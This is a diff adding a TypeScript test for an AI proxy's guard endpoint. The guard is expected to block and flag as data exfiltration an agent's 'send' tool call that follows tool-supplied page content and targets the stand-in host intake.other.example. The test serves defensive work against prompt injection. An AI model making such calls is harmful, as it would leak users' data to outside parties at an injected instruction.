@@ -131,6 +131,48 @@ describe('flow control in the model proxy', () => {
     await set({ record_tools: null, flow_control: null });
   });
 
+  test('guard holds calls beside its messages and, of a response, those of the last message', async () => {
+    await set({ flow_control: 'review' });
+    const guard = async (body: object): Promise<Json> => {
+      const answer = await gateway.call('POST', '/api/v1/guard', { body });
+      assert.equal(answer.status, 200);
+      return (await answer.json()) as Json;
+    };
+    const messages = [
+      { role: 'user', content: 'Send the report' },
+      { role: 'tool', content: PAGE },
+    ];
+    const args = { to: 'https://intake.other.example/in' };
+    const spellings = [
+      { id: 'c', type: 'function', function: { name: 'send', arguments: JSON.stringify(args) } },
+      { type: 'tool_use', name: 'send', input: args },
+      { name: 'send', args },
+    ];
+    for (const call of spellings) {
+      const beside = await guard({ messages, context: { tool_calls: [call] } });
+      assert.deepEqual(
+        [beside['decision'], beside['threat_type'], beside['review_required']],
+        ['block', 'data_exfiltration', true],
+      );
+      assert.match(JSON.stringify(beside['threats']), /messages\[1\]/);
+      const made = [...messages, { role: 'assistant', content: null, tool_calls: [call] }];
+      assert.equal((await guard({ messages: made, direction: 'output' }))['decision'], 'block');
+      assert.notEqual(
+        (await guard({ messages: made }))['decision'],
+        'block',
+        'an earlier call was judged when it was made',
+      );
+    }
+    const context = { tool_calls: [spellings[2]], session_id: 'chat-1' };
+    const { review_id } = await guard({ messages, context });
+    const again = await guard({ messages: [...messages, { role: 'user', content: 'And now?' }], context });
+    assert.equal(again['review_id'], review_id, 'the session is the same conversation');
+    await set({ flow_control: null });
+    const reported = await guard({ messages, context });
+    assert.deepEqual([reported['decision'] === 'block', 'review_id' in reported], [false, false]);
+    assert.match(JSON.stringify(reported['threats']), /data_exfiltration/);
+  });
+
   test('names no tool whose name could be a text', () => {
     const flow = {
       ...{ callPath: '/0', argument: '/to', kind: 'email' as const, isCarrying: false },
